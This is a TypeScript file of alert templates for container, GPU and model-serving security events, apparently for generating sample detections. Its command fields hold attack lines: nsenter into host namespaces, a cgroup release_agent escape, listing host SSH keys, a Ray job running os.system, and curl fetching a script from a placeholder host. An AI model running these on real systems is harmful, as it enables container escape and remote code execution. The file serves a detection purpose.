import type { AlertTemplate } from '../alert-kind.ts';

/** Alert types about containers and the jobs in them. */
export const container = {
  container_sensitive_mount: {
    severities: [4, 20, 12, 4, 0],
    titles: ['Container mounts a sensitive host path', '{container} mounts {file} of its host'],
    descriptions: [
      'Container {container} ({image}) in namespace {namespace} mounts {file} of {host} with write access.',
      'The container runtime socket is mounted into {pod}: its processes can start containers on {host}.',
    ],
    commands: ['mount --bind /host/etc /mnt', 'ls -la /host/root/.ssh'],
  },
  container_gpu_access: {
    severities: [0, 11, 18, 7, 4],
    titles: ['Container uses a GPU it did not ask for', 'GPU device node opened from {container}'],
    descriptions: [
      '{process} in {pod} opened /dev/nvidia0 on {host}; the pod requests no GPU.',
      'NVIDIA_VISIBLE_DEVICES=all in {image} gives {pod} every GPU of {host}.',
    ],
    commands: ['nvidia-smi -L', 'python3 -c "import torch; torch.cuda.device_count()"'],
    withGpu: true,
  },
  container_privileged: {
    severities: [4, 20, 12, 4, 0],
    titles: ['Privileged container started', '{container} runs with all capabilities'],
    descriptions: [
      'Container {container} ({image}) was started privileged in namespace {namespace} on {host}.',
      '{pod} shares the process and network namespaces of {host} and runs as root.',
    ],
    commands: ['sh -c "sleep infinity"', 'nsenter -t 1 -m -u -n -i -p bash'],
  },
  container_escape: {
    severities: [16, 4, 0, 0, 0],
    titles: ['Container escape', 'Process of {container} runs in the host namespaces'],
    descriptions: [
      '{process} left container {container} and runs in the mount namespace of {host} as root.',
      'A symbolic link swap during container start let {process} reach the root of {host} through the GPU toolkit hook.',
    ],
    commands: ['nsenter -t 1 -m -u -n -i -p bash', 'runc exec --cwd /proc/self/fd/7'],
  },
  container_cgroup_escape: {
    severities: [7, 3, 0, 0, 0],
    titles: ['Control group escape through release_agent', '{container} left its control group'],
    descriptions: [
      '{process} in {pod} wrote to release_agent of a cgroup v1 hierarchy: the kernel of {host} will run it as root.',
      'The limits of {container} no longer apply: its processes moved to the root control group of {host}.',
    ],
    commands: ['sh -c "echo /cmd > /tmp/cgrp/release_agent"', 'mount -t cgroup -o rdma cgroup /tmp/cgrp'],
  },
  model_poisoning: {
    severities: [8, 8, 4, 0, 0],
    titles: ['Model weights changed outside the pipeline', 'Model file with executable content loaded'],
    descriptions: [
      'The checkpoint under {file} changed after it was signed; {process} in {pod} serves it.',
      '{process} unpickled {file} and the file started a shell: model files must not run code.',
    ],
    commands: ['python3 load_model.py --unsafe-pickle', 'python3 merge_lora.py --base llama-3-70b'],
    withGpu: true,
  },
  ray_job_rce: {
    severities: [12, 6, 2, 0, 0],
    titles: ['Remote code through the Ray job API', 'Unauthenticated Ray job from {ip}'],
    descriptions: [
      'The Ray dashboard of {pod} accepted a job from {ip} without credentials; it started {process}.',
      'A job submitted to port 8265 of {host} downloads and runs code from {domain}.',
    ],
    commands: [
      'ray job submit -- python3 -c "import os; os.system(\'id\')"',
      'bash -c "curl -s http://{domain}/r.sh"',
    ],
  },
} satisfies Record<string, AlertTemplate>;
